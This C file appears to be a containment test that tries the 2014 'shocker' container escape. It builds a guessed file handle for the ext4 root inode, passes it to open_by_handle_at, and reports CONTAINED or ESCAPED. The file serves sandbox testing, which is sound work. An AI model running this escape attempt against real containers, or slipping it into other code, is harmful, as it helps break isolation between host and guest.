// @attack: open_by_handle_at with a guessed handle of the root inode ("shocker", 2014)
// @language: c_gcc
// @lanes: host
// @contained: 2
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
static void check(long r, const char *what) { int e = errno; printf("%s %s: %s\n", r < 0 ? "CONTAINED" : "ESCAPED", what, r < 0 ? strerror(e) : "succeeded"); fflush(stdout); }
int main(void) {
	struct file_handle *h = malloc(sizeof *h + 128);
	int mount_id;
	h->handle_bytes = 128;
	check(name_to_handle_at(AT_FDCWD, "/etc", h, &mount_id, 0), "name_to_handle_at /etc");
	h->handle_bytes = 8; h->handle_type = 1;
	memset(h->f_handle, 0, 8); h->f_handle[0] = 2; // inode 2: the root of an ext4
	check(open_by_handle_at(open("/ATO/code", O_RDONLY), h, O_RDONLY), "open_by_handle_at inode 2");
	return 0;
}
